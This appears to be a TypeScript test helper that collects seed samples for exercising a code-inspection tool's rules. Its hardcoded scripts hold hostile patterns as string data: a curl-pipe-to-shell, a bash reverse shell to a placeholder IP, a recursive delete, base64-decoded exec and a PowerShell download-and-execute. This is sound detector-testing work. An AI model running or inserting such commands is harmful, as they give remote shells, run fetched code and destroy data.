import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { cases } from '../../src/inspect/config/cases.table.ts';
import type { Sample } from './mutate.ts';

const root = join(import.meta.dirname, '..', '..');
const RULES = join(root, 'src', 'inspect', 'code', 'rules');

const SCRIPTS: readonly Sample[] = [
  {
    path: 'a.sh',
    text: '#!/bin/bash\nset -eu\nfor f in "$@"; do\n  rm -rf -- "${f:?}/"*\ndone\ncurl -fsSL https://example.test/x | sh\n',
  },
  {
    path: 'b.sh',
    text: 'cat <<\'EOF\' > ~/.bashrc\nalias x="$(id)"\nEOF\neval "$1" && exec bash -i >& /dev/tcp/192.0.2.1/1 0>&1\n',
  },
  {
    path: 'c.py',
    text: "import base64, subprocess\nexec(base64.b64decode('cHJpbnQoMSk='))\nsubprocess.run(['sh', '-c', 'id'])\n",
  },
  { path: 'd.ps1', text: 'Invoke-Expression (New-Object Net.WebClient).DownloadString("https://example.test")\n' },
  { path: '.env', text: 'API_KEY=made-up\nDATABASE_URL=postgres://localhost/x\n' },
];

/** What the rules' own cases hold, and some scripts: real texts to begin from. */
export function samples(): readonly Sample[] {
  const code = readdirSync(RULES, { recursive: true, encoding: 'utf8' })
    .filter((name) => name.includes('/cases/'))
    .sort()
    .map((name) => ({ path: name.replaceAll('/', '-'), text: readFileSync(join(RULES, name), 'utf8') }));
  const config = cases.flatMap(({ path, bad, good }) => [bad, good].map((text) => ({ path: path ?? 'a.yaml', text })));
  return [...code, ...config, ...SCRIPTS];
}
